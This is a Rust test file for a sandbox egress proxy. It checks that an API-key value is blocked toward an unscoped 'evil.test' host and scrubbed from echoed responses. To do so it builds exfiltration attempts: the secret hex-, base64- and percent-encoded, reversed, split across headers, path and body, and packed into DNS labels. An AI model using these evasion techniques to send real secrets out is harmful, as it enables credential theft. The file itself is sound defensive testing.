//! Attack tests of issue 15 item 7: a secret never crosses the proxy in an encoded form, in
//! either direction. Toward an unscoped host, a request carrying the real value hex-, base64-,
//! percent-encoded, reversed or cut into fragments over several fields is refused and never
//! arrives; from a scoped host, a response that echoes the value in any of those forms (cut into
//! tiny chunks, so every form straddles chunk boundaries) reaches the sandbox without it.

use std::collections::VecDeque;
use std::convert::Infallible;
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::task::{Context, Poll};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::{Body, Frame};
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use iterion_netproxy::{BlockReason, Secret, SecretRewriter};
use pretty_assertions::assert_eq;
use tokio::net::{TcpListener, TcpStream};

use super::support::*;

const REAL: &str = "sk-Live/4f9+Qx_07zZ~p.K3y=realvalue";

fn rev(s: &[u8]) -> Vec<u8> {
    s.iter().rev().copied().collect()
}

fn hex(s: &[u8], upper: bool) -> Vec<u8> {
    s.iter()
        .flat_map(|b| {
            if upper {
                format!("{b:02X}")
            } else {
                format!("{b:02x}")
            }
            .into_bytes()
        })
        .collect()
}

/// Percent-encodes the bytes whose index satisfies `which`.
fn pct(s: &[u8], upper: bool, which: impl Fn(usize) -> bool) -> Vec<u8> {
    s.iter()
        .enumerate()
        .flat_map(|(i, b)| match (which(i), upper) {
            (true, true) => format!("%{b:02X}").into_bytes(),
            (true, false) => format!("%{b:02x}").into_bytes(),
            (false, _) => vec![*b],
        })
        .collect()
}

/// One encoding class: its name and what it makes of the value (with a neighbour prefix of
/// `lead` bytes, so base64 sees the value at each alignment of a group).
fn encode(class: &str, v: &[u8]) -> Vec<u8> {
    let (name, lead) = class.split_once('@').unwrap_or((class, "0"));
    let lead: usize = lead.parse().unwrap();
    let mut input = b"::".to_vec();
    input.truncate(lead);
    input.extend_from_slice(v);
    let b64 = |e: &base64::engine::GeneralPurpose| e.encode(&input).into_bytes();
    match name {
        "raw" => v.to_vec(),
        "upper" => v.to_ascii_uppercase(),
        "reversed" => rev(v),
        "hex" => hex(v, false),
        "HEX" => hex(v, true),
        "hex-reversed" => hex(&rev(v), false),
        "b64" => b64(&STANDARD),
        "b64-nopad" => b64(&STANDARD_NO_PAD),
        "b64url" => b64(&URL_SAFE),
        "b64url-nopad" => b64(&URL_SAFE_NO_PAD),
        "b64-reversed-value" => STANDARD.encode(rev(&input)).into_bytes(),
        "b64-string-reversed" => rev(&b64(&STANDARD)),
        "pct-full-upper" => pct(v, true, |_| true),
        "pct-full-lower" => pct(v, false, |_| true),
        "pct-partial" => pct(v, false, |i| i % 2 == 0),
        "pct-of-b64" => pct(&b64(&STANDARD), true, |_| true),
        // `od -An -tx1`: spaced hex, 16 bytes a line.
        "od-hex" => hex(v, false)
            .chunks(2)
            .enumerate()
            .flat_map(|(i, pair)| {
                let sep: &[u8] = if i > 0 && i % 16 == 0 { b"\n " } else { b" " };
                [sep, pair].concat()
            })
            .collect(),
        "colon-hex" => hex(v, true).chunks(2).collect::<Vec<_>>().join(&b':'),
        "json-chars" => {
            let parts: Vec<String> = v
                .iter()
                .map(|b| format!("\"{}\"", char::from(*b)))
                .collect();
            format!("[{}]", parts.join(", ")).into_bytes()
        }
        "dns-labels" => v.chunks(6).collect::<Vec<_>>().join(&b'.'),
        "json-u-escapes" => v
            .iter()
            .flat_map(|b| format!("\\u{b:04x}").into_bytes())
            .collect(),
        "html-entities" => v
            .iter()
            .flat_map(|b| format!("&#{b};").into_bytes())
            .collect(),
        "escaped-slash" => v
            .iter()
            .flat_map(|b| {
                if *b == b'/' {
                    b"\\/".to_vec()
                } else {
                    vec![*b]
                }
            })
            .collect(),
        other => panic!("unknown class {other}"),
    }
}

const CLASSES: &[&str] = &[
    "raw",
    "upper",
    "reversed",
    "hex",
    "HEX",
    "hex-reversed",
    "b64@0",
    "b64@1",
    "b64@2",
    "b64-nopad@0",
    "b64-nopad@1",
    "b64-nopad@2",
    "b64url@0",
    "b64url@1",
    "b64url@2",
    "b64url-nopad@0",
    "b64url-nopad@1",
    "b64url-nopad@2",
    "b64-reversed-value@1",
    "b64-string-reversed@2",
    "pct-full-upper",
    "pct-full-lower",
    "pct-partial",
    "pct-of-b64@1",
    "od-hex",
    "colon-hex",
    "json-chars",
    "dns-labels",
    "json-u-escapes",
    "html-entities",
    "escaped-slash",
];

fn secrets() -> SecretRewriter {
    let mut r = SecretRewriter::new();
    r.add_value_secret("API_KEY", Secret::new(REAL), &["scoped.test".into()])
        .unwrap();
    r
}

/// A body sent as many tiny frames (every encoded form straddles a frame boundary).
struct Dribble(VecDeque<Bytes>);

impl Body for Dribble {
    type Data = Bytes;
    type Error = Infallible;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        _: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        Poll::Ready(self.0.pop_front().map(|b| Ok(Frame::data(b))))
    }
}

/// A plain-HTTP upstream that answers `/echo/<class>` with `<class>(Authorization)` in its body
/// (3-byte frames) and in an `x-echo` header; it records every request it gets.
async fn echo_upstream() -> (std::net::SocketAddr, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let s = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((io, _)) = l.accept().await else {
                return;
            };
            let s = s.clone();
            tokio::spawn(async move {
                let svc = service_fn(move |req: hyper::Request<hyper::body::Incoming>| {
                    let s = s.clone();
                    async move {
                        let (parts, body) = req.into_parts();
                        let body = body.collect().await.unwrap().to_bytes();
                        s.lock().unwrap().push(format!("{parts:?} {body:?}"));
                        let auth = parts
                            .headers
                            .get("authorization")
                            .map(|v| v.as_bytes().to_vec())
                            .unwrap_or_default();
                        let path = parts.uri.path().to_owned();
                        let echoed = match path.split_once("/echo/") {
                            Some((_, class)) => encode(class, &auth),
                            None => b"ok".to_vec(),
                        };
                        let mut out = b"echo[".to_vec();
                        out.extend_from_slice(&echoed);
                        out.extend_from_slice(b"]");
                        let frames = out.chunks(3).map(Bytes::copy_from_slice).collect();
                        // A header cannot hold a line break: it gets a space instead.
                        let header = String::from_utf8_lossy(&echoed).replace('\n', " ");
                        let mut resp = hyper::Response::builder()
                            .header("x-echo", header)
                            .body(Dribble(frames))
                            .unwrap();
                        // `/name/echo/<class>`: also as a header name; `/reason/…`: as the
                        // status line's reason phrase.
                        if path.starts_with("/name/")
                            && let Ok(name) = hyper::header::HeaderName::from_bytes(
                                &[b"x-".as_slice(), &echoed].concat(),
                            )
                        {
                            resp.headers_mut().insert(name, "1".parse().unwrap());
                        }
                        if path.starts_with("/reason/")
                            && let Ok(reason) = hyper::ext::ReasonPhrase::try_from(echoed.clone())
                        {
                            resp.extensions_mut().insert(reason);
                        }
                        Ok::<_, Infallible>(resp)
                    }
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(io), svc)
                    .await;
            });
        }
    });
    (addr, seen)
}

/// The proxy, allowing the two names and loopback on the upstream's `port` (a bare rule would
/// allow 443 and 80 only).
async fn plain_harness(port: u16) -> Harness {
    start(Options {
        rules: port_rules(port),
        hosts: "scoped.test=127.0.0.1,evil.test=127.0.0.1",
        secrets: Some(secrets()),
        inspect: true,
        ..Default::default()
    })
    .await
}

fn port_rules(port: u16) -> Vec<String> {
    rules(&[
        &format!("scoped.test:{port}"),
        &format!("evil.test:{port}"),
        &format!("127.0.0.1/32:{port}"),
    ])
}

/// One plain-HTTP request through the proxy; returns status, headers and body.
async fn through(
    h: &Harness,
    req: hyper::Request<Full<Bytes>>,
) -> (u16, hyper::HeaderMap, Vec<u8>) {
    let mut req = req;
    req.headers_mut().insert(
        "proxy-authorization",
        format!("Bearer {TOKEN}").parse().unwrap(),
    );
    let io = TcpStream::connect(h.addr()).await.unwrap();
    let (mut sender, conn) = hyper::client::conn::http1::handshake(TokioIo::new(io))
        .await
        .unwrap();
    tokio::spawn(conn);
    let resp = sender.send_request(req).await.unwrap();
    let status = resp.status().as_u16();
    let headers = resp.headers().clone();
    let body = resp
        .into_body()
        .collect()
        .await
        .unwrap()
        .to_bytes()
        .to_vec();
    (status, headers, body)
}

/// Whether `hay` contains any 8-byte fragment of the value, in any of the table's encodings.
fn leaks(hay: &[u8]) -> Option<&'static str> {
    let hay = hay.to_ascii_lowercase();
    CLASSES.iter().copied().find(|class| {
        let enc = encode(class, REAL.as_bytes()).to_ascii_lowercase();
        // The inner part of each encoding: its edges may mix in neighbour bytes.
        let inner = &enc[enc.len().min(4)..enc.len().saturating_sub(4)];
        inner
            .windows(12.min(inner.len()))
            .any(|w| hay.windows(w.len()).any(|h| h == w))
    })
}

#[tokio::test]
async fn a_scoped_upstream_echoing_the_value_in_any_encoding_hands_back_only_the_placeholder() {
    let (addr, _) = echo_upstream().await;
    let h = plain_harness(addr.port()).await;
    let port = addr.port();
    let mut failures = Vec::new();
    for class in CLASSES {
        let req = hyper::Request::get(format!("http://scoped.test:{port}/echo/{class}"))
            .header("host", format!("scoped.test:{port}"))
            .header("authorization", "__ITERION_SECRET_API_KEY__")
            .body(Full::new(Bytes::new()))
            .unwrap();
        let (status, headers, body) = through(&h, req).await;
        assert_eq!(status, 200, "{class}");
        let header = headers
            .get("x-echo")
            .map(|v| v.as_bytes().to_vec())
            .unwrap_or_default();
        for (what, bytes) in [("body", &body), ("header", &header)] {
            if let Some(form) = leaks(bytes) {
                failures.push(format!(
                    "{class}: the {what} carries the {form} form: {}",
                    String::from_utf8_lossy(bytes)
                ));
            }
        }
        assert!(
            String::from_utf8_lossy(&body).contains("__ITERION_SECRET_API_KEY__"),
            "{class}: {}",
            String::from_utf8_lossy(&body)
        );
    }
    assert_eq!(failures, Vec::<String>::new());
}

/// Where in one request an encoded value (or its pieces) is put.
#[derive(Clone, Copy, Debug)]
enum Place {
    Header,
    HeaderName,
    Path,
    Query,
    Body,
    /// Halves in two headers.
    TwoHeaders,
    /// First half in the path, second in the body.
    PathAndBody,
    /// Thirds in the query, a header and the body.
    QueryHeaderBody,
}

const PLACES: &[Place] = &[
    Place::Header,
    Place::HeaderName,
    Place::Path,
    Place::Query,
    Place::Body,
    Place::TwoHeaders,
    Place::PathAndBody,
    Place::QueryHeaderBody,
];

/// A request toward `authority` carrying `enc` at `place`. Bytes that cannot stand in a URL or
/// a header are percent-encoded there (which the scan undoes).
fn carrying(
    authority: &str,
    absolute: bool,
    enc: &[u8],
    place: Place,
) -> hyper::Request<Full<Bytes>> {
    let url_safe = |b: &[u8]| {
        String::from_utf8(pct(b, true, |i| {
            !(b[i].is_ascii_alphanumeric() || b"-._~".contains(&b[i]))
        }))
        .unwrap()
    };
    let header_safe = |b: &[u8]| {
        hyper::header::HeaderValue::from_bytes(b).unwrap_or_else(|_| url_safe(b).parse().unwrap())
    };
    // A header name is a token: where the form is not one, it goes into a value instead.
    let name_safe =
        |b: &[u8]| hyper::header::HeaderName::from_bytes(&[b"x-".as_slice(), b].concat()).ok();
    let (a, b) = enc.split_at(enc.len() / 2);
    let (t1, rest) = enc.split_at(enc.len() / 3);
    let (t2, t3) = rest.split_at(rest.len() / 2);
    let (path, mut headers, body): (
        String,
        Vec<(hyper::header::HeaderName, hyper::header::HeaderValue)>,
        Vec<u8>,
    ) = match place {
        Place::Header => (
            "/".into(),
            vec![("x-data".parse().unwrap(), header_safe(enc))],
            vec![],
        ),
        Place::HeaderName => match name_safe(enc) {
            Some(name) => ("/".into(), vec![(name, "1".parse().unwrap())], vec![]),
            None => (
                "/".into(),
                vec![("x-data".parse().unwrap(), header_safe(enc))],
                vec![],
            ),
        },
        Place::Path => (format!("/{}", url_safe(enc)), vec![], vec![]),
        Place::Query => (format!("/?q={}", url_safe(enc)), vec![], vec![]),
        Place::Body => ("/".into(), vec![], enc.to_vec()),
        Place::TwoHeaders => (
            "/".into(),
            vec![
                ("x-a".parse().unwrap(), header_safe(a)),
                ("x-b".parse().unwrap(), header_safe(b)),
            ],
            vec![],
        ),
        Place::PathAndBody => (format!("/{}", url_safe(a)), vec![], b.to_vec()),
        Place::QueryHeaderBody => (
            format!("/?p={}", url_safe(t1)),
            vec![("x-p".parse().unwrap(), header_safe(t2))],
            t3.to_vec(),
        ),
    };
    let uri = if absolute {
        format!("http://{authority}{path}")
    } else {
        path
    };
    let mut req = hyper::Request::post(uri)
        .header("host", authority)
        .body(Full::new(Bytes::from(body)))
        .unwrap();
    for (n, v) in headers.drain(..) {
        req.headers_mut().append(n, v);
    }
    req
}

#[tokio::test]
async fn the_value_in_any_encoding_or_in_pieces_toward_an_unscoped_host_is_refused_over_plain_http()
{
    let (addr, seen) = echo_upstream().await;
    let h = plain_harness(addr.port()).await;
    let authority = format!("evil.test:{}", addr.port());
    let mut passed = Vec::new();
    for class in CLASSES {
        let enc = encode(class, REAL.as_bytes());
        for place in PLACES {
            let (status, _, _) = through(&h, carrying(&authority, true, &enc, *place)).await;
            if status != 403 {
                passed.push(format!("{class} in {place:?}: {status}"));
            }
        }
    }
    assert_eq!(passed, Vec::<String>::new());
    assert_eq!(seen.lock().unwrap().len(), 0);
    let events = h.events();
    // `network_blocked` is reported once per (host, reason).
    assert!(!events.is_empty());
    assert!(
        events
            .iter()
            .all(|e| e.reason == BlockReason::SecretExfiltration && e.host == "evil.test")
    );
    // The same request toward the secret's own host goes through.
    let ok = format!("scoped.test:{}", addr.port());
    let (status, _, _) = through(
        &h,
        carrying(&ok, true, &encode("hex", REAL.as_bytes()), Place::Query),
    )
    .await;
    assert_eq!(status, 200);
}

#[tokio::test]
async fn the_value_in_any_encoding_or_in_pieces_toward_an_unscoped_host_is_refused_in_a_tunnel() {
    let up = HttpsServer::start(&["scoped.test", "evil.test"]);
    let h = start(Options {
        rules: port_rules(up.addr.port()),
        hosts: "scoped.test=127.0.0.1,evil.test=127.0.0.1",
        secrets: Some(secrets()),
        inspect: true,
        extra_root: Some(up.ca_der.clone()),
        ..Default::default()
    })
    .await;
    let root = h.ca.as_ref().unwrap().cert_der().clone();
    let authority = format!("evil.test:{}", up.addr.port());
    let mut passed = Vec::new();
    for class in CLASSES {
        let enc = encode(class, REAL.as_bytes());
        for place in PLACES {
            let (head, stream) = connect(h.addr(), &authority).await;
            assert_eq!(status_of(&head), 200, "{head}");
            let tls = tls_over(stream, "evil.test", &root).await;
            let (status, _, _) = request_over(tls, carrying(&authority, false, &enc, *place)).await;
            if status != 403 {
                passed.push(format!("{class} in {place:?}: {status}"));
            }
        }
    }
    assert_eq!(passed, Vec::<String>::new());
    assert_eq!(up.seen(), vec![]);
}

#[tokio::test]
async fn unrelated_traffic_toward_an_unscoped_host_still_passes() {
    let (addr, seen) = echo_upstream().await;
    let h = plain_harness(addr.port()).await;
    let authority = format!("evil.test:{}", addr.port());
    // Pieces shorter than 8 bytes, and text that merely looks encoded.
    for enc in [
        &REAL.as_bytes()[..7],
        b"0123456789abcdef0123456789abcdef".as_slice(),
        b"aGVsbG8gd29ybGQsIHRoaXMgaXMgZmluZQ==",
    ] {
        let (status, _, _) = through(&h, carrying(&authority, true, enc, Place::Query)).await;
        assert_eq!(status, 200);
    }
    assert_eq!(seen.lock().unwrap().len(), 3);
}

#[tokio::test]
async fn a_value_echoed_as_a_header_name_or_a_reason_phrase_never_reaches_the_sandbox() {
    let (addr, _) = echo_upstream().await;
    let h = plain_harness(addr.port()).await;
    let port = addr.port();
    for class in ["raw", "hex", "b64url-nopad@1", "reversed"] {
        for place in ["name", "reason"] {
            let (head, _) = send_head(
                h.addr(),
                &format!(
                    "GET http://scoped.test:{port}/{place}/echo/{class} HTTP/1.1\r\nHost: scoped.test:{port}\r\nAuthorization: __ITERION_SECRET_API_KEY__\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n"
                ),
            )
            .await;
            assert_eq!(status_of(&head), 200, "{head}");
            assert_eq!(leaks(head.as_bytes()), None, "{class} as {place}: {head}");
        }
    }
}

/// A name made of DNS labels that carry `enc`.
fn labelled(enc: &[u8]) -> String {
    let clean: Vec<u8> = enc
        .iter()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                b.to_ascii_lowercase()
            } else {
                b'-'
            }
        })
        .collect();
    let labels: Vec<&str> = clean
        .chunks(30)
        .map(|c| std::str::from_utf8(c).unwrap().trim_matches('-'))
        .collect();
    format!("{}.evil.test", labels.join("."))
}

#[tokio::test]
async fn a_value_in_the_target_name_is_refused_before_it_is_resolved() {
    // Denylist with no rule: every name is allowed, so only the secret scan stands between the
    // name and the resolver (a DNS query is itself the exfiltration).
    let h = start(Options {
        mode: "denylist",
        rules: Vec::new(),
        // The unrelated name below resolves to loopback here: no test query leaves the host.
        hosts: "plain.evil.test=127.0.0.1",
        secrets: Some(secrets()),
        inspect: true,
        ..Default::default()
    })
    .await;
    for class in ["hex", "HEX", "hex-reversed", "raw"] {
        let host = labelled(&encode(class, REAL.as_bytes()));
        let (head, _) = connect(h.addr(), &format!("{host}:443")).await;
        assert_eq!(status_of(&head), 403, "{class}: {host}: {head}");
        let (head, _) = send_head(
            h.addr(),
            &format!(
                "GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Bearer {TOKEN}\r\n\r\n"
            ),
        )
        .await;
        assert_eq!(status_of(&head), 403, "{class}: {host}: {head}");
    }
    assert!(
        h.events()
            .iter()
            .all(|e| e.reason == BlockReason::SecretExfiltration)
    );
    // An unrelated name is resolved as usual (and then meets the address check, not the
    // secret scan).
    let scans = || {
        h.events()
            .iter()
            .filter(|e| e.reason == BlockReason::SecretExfiltration)
            .count()
    };
    let before = scans();
    let (head, _) = connect(h.addr(), "plain.evil.test:443").await;
    assert_ne!(status_of(&head), 200, "{head}");
    assert_eq!(scans(), before);
}
